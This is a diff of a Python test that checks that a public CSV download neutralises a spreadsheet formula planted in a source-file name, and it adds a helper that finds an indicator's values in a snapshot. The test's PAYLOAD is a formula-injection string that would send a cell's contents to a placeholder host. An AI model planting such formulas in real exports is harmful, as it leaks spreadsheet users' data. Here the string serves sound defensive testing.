@@ -7,17 +7,29 @@ import io
 from openpyxl import load_workbook
 
 from mittaristo.reviews.models import ReviewRound
-from mittaristo.web.published import find_indicator
 
 from .test_public import publish_later_round
 
 PAYLOAD = '=HYPERLINK("http://example.invalid/?"&A2;"klik")'
 
 
+def values_of(stored, code) -> list[dict]:
+    """The values of the indicator `code` in a stored record, wherever its form keeps them."""
+    if isinstance(stored, dict):
+        if stored.get("code") == code and isinstance(stored.get("values"), list):
+            return stored["values"]
+        stored = list(stored.values())
+    if isinstance(stored, list):
+        for item in stored:
+            if found := values_of(item, code):
+                return found
+    return []
+
+
 def test_the_public_download_neutralises_a_formula_in_a_source_name(client, demo_db):
     demo = ReviewRound.objects.get()
     snapshot = copy.deepcopy(demo.snapshot)
-    for value in find_indicator(snapshot, "tyopaikat")["values"]:
+    for value in values_of(snapshot, "tyopaikat"):
         value["source_ref"] = PAYLOAD  # the name of an imported file is a person's text
     publish_later_round(demo, snapshot)  # the latest published round is the one downloaded
     text = client.get("/mittarit/tyopaikat/lataa.csv").content
